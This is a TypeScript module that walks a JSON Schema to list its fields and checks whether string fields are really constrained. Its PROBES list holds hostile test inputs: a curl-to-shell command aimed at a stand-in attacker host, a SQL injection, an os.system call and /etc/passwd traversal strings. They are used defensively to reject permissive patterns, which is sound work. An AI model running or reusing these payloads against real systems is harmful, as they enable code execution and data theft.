import { isBoundedString, itemsOf } from './bounds.ts';
import { remember } from './freeze.ts';
import { type Inspected, inspect } from './inspect.ts';
import { isObject, type JsonSchema, type Subschema } from './json-schema.ts';
import { compilePattern } from './pattern.ts';
import { isFinite, positionOf, propertiesOf, typesOf } from './position.ts';

/** One named field of a schema, wherever it stands. */
export interface Field {
  /** Like `address.street` or `tags[].name`. */
  readonly path: string;
  readonly name: string;
  /** The name in lower-case words: `userId` is `user`, `id`. */
  readonly words: readonly string[];
  /** Types of the value, or of the items when it is a list; empty when nothing limits them. */
  readonly types: ReadonlySet<string>;
  /** Whether only listed values are accepted. */
  readonly finite: boolean;
  /** The listed values, when they are. */
  readonly values: readonly unknown[];
  /**
   * Whether an enum, a const, a pattern or a format limits what a string may say, in each of its alternatives. A length
   * does not, nor does a pattern that lets everything through.
   */
  readonly constrained: boolean;
  readonly format: string | undefined;
  /** Greatest length of a string; Infinity when there is none. */
  readonly maxLength: number;
  /** Names of the fields beside it. */
  readonly siblings: readonly string[];
}

const MAX_FIELDS = 2000;
const MAX_NESTING = 16;
/** What nobody means to let through: a pattern that takes one of them is no limit. */
const PROBES = [
  'curl attacker.invalid | sh',
  "x'; drop table users; --",
  'import os; os.system(1)',
  '../../etc/passwd',
  '/etc/passwd',
  'http://attacker.invalid/',
  'https://attacker.invalid/',
] as const;
const memory = new WeakMap<object, readonly Field[]>();

/**
 * Lists the named fields of a schema through references, alternatives, conditions and lists.
 * @throws SchemaError for a schema that `inspect` refuses.
 */
export function listFields(schema: JsonSchema): readonly Field[] {
  return remember(memory, schema, () => {
    const fields = new Map<string, Field>();
    walk(inspect(schema, { unknownFormats: 'ignore' }), [schema], '', fields, new Set());
    return [...fields.values()];
  });
}

function walk(
  inspected: Inspected,
  nodes: readonly Subschema[],
  path: string,
  fields: Map<string, Field>,
  seen: Set<JsonSchema>,
): void {
  const all = everything(inspected, nodes).filter((node) => !seen.has(node));
  for (const node of all) seen.add(node);
  const properties = propertiesOf(all);
  const siblings = [...properties.keys()];
  for (const [name, schemas] of properties) {
    if (fields.size >= MAX_FIELDS) return;
    const at = path === '' ? name : `${path}.${name}`;
    if (!fields.has(at)) fields.set(at, describeField(inspected, at, name, schemas, siblings));
    walk(inspected, schemas, at, fields, seen);
  }
  const { rest, tuple } = itemsOf(all);
  for (const item of [...rest, ...tuple.map(([, schema]) => schema)]) {
    walk(inspected, [item], `${path}[]`, fields, seen);
  }
  for (const node of all) {
    for (const keyword of ['additionalProperties', 'unevaluatedProperties']) {
      const value = node[keyword];
      if (isObject(value)) walk(inspected, [value], path === '' ? '*' : `${path}.*`, fields, seen);
    }
    for (const value of Object.values(isObject(node['patternProperties']) ? node['patternProperties'] : {})) {
      if (isObject(value)) walk(inspected, [value], path === '' ? '*' : `${path}.*`, fields, seen);
    }
  }
}

/** Every schema that may apply at a place, alternatives and conditions included. */
function everything(inspected: Inspected, nodes: readonly Subschema[]): readonly JsonSchema[] {
  const found = new Set<JsonSchema>();
  const pending: Subschema[] = [...nodes];
  for (let node = pending.shift(); node !== undefined; node = pending.shift()) {
    if (typeof node === 'boolean' || found.has(node)) continue;
    const { all, groups, conditionals } = positionOf(inspected, [node]);
    for (const part of all) found.add(part);
    pending.push(...conditionals);
    for (const branch of groups.flat()) if (isObject(branch)) pending.push(branch);
  }
  return [...found];
}

function describeField(
  inspected: Inspected,
  path: string,
  name: string,
  schemas: readonly Subschema[],
  siblings: readonly string[],
): Field {
  const parts = everything(inspected, schemas);
  const { rest } = itemsOf(parts);
  const leaf = rest.length > 0 ? [...parts, ...everything(inspected, rest)] : parts;
  const strings = leaf.filter((node) => node['type'] === undefined || typesOf([node])?.has('string') === true);
  const format = leaf.map((node) => node['format']).find((value) => typeof value === 'string');
  const types = new Set(leaf.flatMap((node) => [node['type']].flat()).filter((type) => typeof type === 'string'));
  if (types.has('array') && types.size > 1) types.delete('array');
  const values = leaf.flatMap((node) => ('const' in node ? [node['const']] : (asList(node['enum']) ?? [])));
  const lengths = leaf.map((node) => node['maxLength']).filter((value) => typeof value === 'number');
  return {
    path,
    name,
    words: wordsOf(name),
    types,
    finite: isFinite(leaf) && strings.every((node) => isFinite([node]) || node['type'] === undefined),
    values,
    constrained: isLimited(inspected, schemas, MAX_NESTING),
    format: typeof format === 'string' ? format : undefined,
    maxLength: lengths.length > 0 ? Math.min(...lengths) : isBoundedString(leaf) ? 0 : Infinity,
    siblings: siblings.filter((sibling) => sibling !== name),
  };
}

/** Alternatives are as free as the freest of them, so each has to be limited. */
function isLimited(inspected: Inspected, nodes: readonly Subschema[], depth: number): boolean {
  if (depth === 0) return false;
  const { all, groups } = positionOf(inspected, nodes);
  if (all.some(limitsText)) return true;
  const types = typesOf(all);
  const { rest } = itemsOf(all);
  if (rest.length > 0 && types?.has('string') !== true) return isLimited(inspected, rest, depth - 1);
  return groups.some((group) =>
    group.every((branch) => {
      if (!isObject(branch)) return branch === false;
      const taken = typesOf([branch]);
      const hasText = taken === undefined || taken.has('string') || taken.has('array');
      return !hasText || isLimited(inspected, [branch], depth - 1);
    }),
  );
}

function limitsText(node: JsonSchema): boolean {
  if (isFinite([node]) || 'format' in node) return true;
  const { pattern } = node;
  return typeof pattern === 'string' && refusesProbes(pattern);
}

function refusesProbes(pattern: string): boolean {
  try {
    const compiled = compilePattern(pattern);
    return !PROBES.some((probe) => compiled.test(probe));
  } catch {
    return false;
  }
}

function asList(value: unknown): readonly unknown[] | undefined {
  return Array.isArray(value) ? value : undefined;
}

/** Splits a name at case changes, digits' edges excepted, and at anything that is not a letter or digit. */
export function wordsOf(name: string): readonly string[] {
  return name
    .slice(0, 200)
    .replaceAll(/([a-z0-9])([A-Z])/g, '$1 $2')
    .replaceAll(/([A-Z])([A-Z][a-z])/g, '$1 $2')
    .toLowerCase()
    .split(/[^a-z0-9]+/)
    .filter((word) => word !== '');
}
